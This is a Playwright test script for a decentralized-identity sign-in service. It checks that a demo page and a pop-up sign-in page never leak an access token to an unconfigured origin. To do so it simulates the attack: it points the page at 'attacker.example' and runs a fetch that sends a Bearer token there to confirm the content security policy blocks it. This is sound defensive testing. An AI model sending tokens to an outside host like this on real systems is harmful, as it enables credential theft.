#!/usr/bin/env node
// Headless Chromium (playwright-core) against a real `did-auth serve`: the demo page and the
// hosted sign-in page must never hand a token to an origin they were not configured with.
//
//   node tests/security/browser_origins.mjs SCENARIO   with env E2E = JSON {issuer}
//
// Scenarios: demo_api, signin_no_opener. Prints one JSON line {"scenario", "ok", ...facts}.
import { chromium } from "playwright-core";

const scenario = process.argv[2];
const { issuer } = JSON.parse(process.env.E2E ?? "{}");
const ATTACKER = "https://attacker.example";
const FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
  "--disable-background-networking", "--disable-component-update", "--disable-sync"];

function b64url(obj) {
  return Buffer.from(JSON.stringify(obj)).toString("base64url");
}

// A token-shaped secret: what the page must not send anywhere but to an allowed API.
const now = Math.floor(Date.now() / 1000);
const SECRET_TOKEN = [
  b64url({ alg: "ES256", typ: "at+jwt", kid: "k" }),
  b64url({ sub: "did:pkh:eip155:31337:0x0000000000000000000000000000000000000001", aud: "trading-api",
    scope: "account:read trade:write", client_id: "demo", amr: ["siwe"], auth_time: now, exp: now + 300,
    sid: "0x01" }),
  "c2lnbmF0dXJl",
].join(".");

async function watchedContext(browser) {
  const context = await browser.newContext();
  const offsite = []; // every request that left the issuer's origin
  context.on("request", (req) => {
    if (new URL(req.url()).origin !== issuer) offsite.push({ url: req.url(), auth: req.headers().authorization ?? null });
  });
  // Were a request to reach the network, the attacker would answer (CORS included).
  await context.route(`${ATTACKER}/**`, (route) => route.fulfill({
    status: 200,
    headers: { "content-type": "application/json", "access-control-allow-origin": "*" },
    body: JSON.stringify({ balances: { USDC: "1" }, open_orders: 0, scopes: [] }),
  }));
  return { context, offsite };
}

const scenarios = {
  async demo_api(browser) {
    const { context, offsite } = await watchedContext(browser);
    await context.addInitScript(([token, attacker]) => {
      if (location.pathname !== "/demo/") return;
      sessionStorage.setItem("did-auth:session", JSON.stringify({
        issuer: location.origin, client_id: "demo", tokens: { access_token: token, token_type: "Bearer" },
      }));
      // A value left in storage by an earlier visit with ?api=attacker.
      if (!sessionStorage.getItem("did-auth:demo-api")) sessionStorage.setItem("did-auth:demo-api", attacker);
    }, [SECRET_TOKEN, ATTACKER]);
    const page = await context.newPage();
    const response = await page.goto(`${issuer}/demo/?api=${encodeURIComponent(ATTACKER)}`);
    await page.waitForSelector("html[data-ready]");
    const csp = response.headers()["content-security-policy"];
    const inputAfterLoad = await page.inputValue("#api-url");
    const errorAfterLoad = await page.locator("#error").textContent();
    // 1. The buttons that send the token.
    await page.getByRole("button", { name: "Load account" }).click();
    await page.getByRole("button", { name: "Place demo order" }).click();
    // 2. The user (or a script) types the attacker's URL into the field.
    await page.fill("#api-url", `${ATTACKER}/v1`);
    await page.dispatchEvent("#api-url", "change");
    const errorAfterTyping = await page.locator("#error").textContent();
    await page.getByRole("button", { name: "Load account" }).click();
    const errorAfterCall = await page.locator("#error").textContent();
    // 3. The CSP alone: a script ignoring the page's checks cannot reach the attacker.
    const cspBlocked = await page.evaluate(async ([url, token]) => {
      try {
        await fetch(url, { headers: { authorization: `Bearer ${token}` } });
        return false;
      } catch {
        return true;
      }
    }, [`${ATTACKER}/account`, SECRET_TOKEN]);
    await page.waitForTimeout(500);
    const stored = await page.evaluate(() => sessionStorage.getItem("did-auth:demo-api"));
    await context.close();
    return { csp, inputAfterLoad, errorAfterLoad, errorAfterTyping, errorAfterCall, cspBlocked, stored, offsite };
  },

  // /signin in pop-up mode opened directly (no opener): nothing to hand tokens to.
  async signin_no_opener(browser) {
    const { context, offsite } = await watchedContext(browser);
    const page = await context.newPage();
    const origin = "http://127.0.0.1:45678";
    await page.goto(`${issuer}/signin?client_id=demo&scope=account:read&origin=${encodeURIComponent(origin)}`);
    await page.waitForSelector("html[data-wallets-ready]");
    const disabled = await page.getByRole("button", { name: "Connect wallet and sign in" }).isDisabled();
    const error = await page.locator("#error").textContent();
    const stored = await page.evaluate(() => sessionStorage.getItem("did-auth:session"));
    await context.close();
    return { disabled, error, stored, offsite };
  },
};

async function main() {
  if (!scenarios[scenario]) throw new Error(`unknown scenario ${scenario}`);
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: FLAGS, headless: true,
  });
  try {
    const facts = await scenarios[scenario](browser);
    process.stdout.write(JSON.stringify({ scenario, ok: true, ...facts }) + "\n");
  } finally {
    await browser.close();
  }
}

main().catch((err) => {
  process.stdout.write(JSON.stringify({ scenario, ok: false, error: String(err?.stack ?? err) }) + "\n");
  process.exit(1);
});
